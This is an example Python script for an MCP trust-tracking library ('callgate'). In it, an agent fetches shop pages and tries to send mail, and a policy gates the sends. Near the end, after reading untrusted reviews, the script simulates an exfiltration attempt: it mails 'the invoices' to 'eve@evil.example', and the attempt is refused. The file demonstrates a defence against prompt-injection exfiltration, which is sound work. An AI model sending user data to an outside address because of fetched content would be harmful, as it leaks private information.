"""An agent without a gateway: what it reads is labelled, and what it does after that is decided by a policy."""

from __future__ import annotations

import asyncio
import logging
import sys
from pathlib import Path

from mcp import Client, StdioServerParameters

from callgate.errors import Refused
from callgate.sdk import Alert, Question, TrackedClient, TrustTracker

HERE = Path(__file__).resolve().parent

# What we know of the two servers. Without it everything they do would count as the worst there is.
WEB = {
    "fetch": {
        "annotations": {
            "readOnlyHint": True,
            "inputMetadata": {"destination": "public", "sensitivity": "none", "outcomes": "benign"},
            "returnMetadata": {"source": "untrustedPublic", "sensitivity": "none"},
        }
    }
}
MAIL = {
    "send": {
        "annotations": {
            "inputMetadata": {"destination": "public", "sensitivity": ["user", "pii"], "outcomes": "irreversible"},
            "returnMetadata": {"source": "system", "sensitivity": "none"},
        },
        "x-criticalArgs": ["to"],
    }
}


def say(text: str) -> None:
    sys.stdout.write(text + "\n")


async def ask(question: Question) -> bool:
    """Show the person question.text, and wait for their answer. Here nobody agrees to write to evil.example."""
    agreed = "evil.example" not in question.arguments["to"]
    say(f"the person is asked: {question.rule}: {question.arguments['to']}: {'yes' if agreed else 'no'}")
    return agreed


def alert(found: Alert) -> None:
    say(f"the person is warned: {found.tool}: {found.warnings[0]}")


def server(name: str) -> Client:
    return Client(StdioServerParameters(command=sys.executable, args=[str(HERE / "server.py"), name]))


async def main() -> None:
    tracker = TrustTracker(ask=ask, alert=alert)
    tracker.prompt(
        "Look at https://shop.example/hours and https://shop.example/reviews, and mail ada@home.example when they open."
    )
    async with (
        TrackedClient(server("web"), tracker, server="web", annotations=WEB) as web,
        TrackedClient(server("mail"), tracker, server="mail", annotations=MAIL) as mail,
    ):

        async def send(to: str, body: str) -> None:
            try:
                result = await mail.call_tool("send", {"to": to, "body": body})
                say(result.content[0].text)  # type: ignore[union-attr]
            except Refused as refused:
                say(f"not sent to {to}: {refused.reason}")

        await web.call_tool("fetch", {"url": "https://shop.example/hours"})
        await send("ada@home.example", "nine to five")
        await send("office@shop.example", "thank you")
        reviews = await web.call_tool("fetch", {"url": "https://shop.example/reviews"})
        say(f"the model reads: {reviews.content[0].text[:18]}…")  # type: ignore[union-attr]
        await send("eve@evil.example", "the invoices")
    label = await tracker.label()
    say(f"the session has read from: {', '.join(label.attribution)}")


if __name__ == "__main__":
    # What was flagged is printed above; the log would say it once more.
    logging.getLogger("callgate").setLevel(logging.ERROR)
    asyncio.run(main())
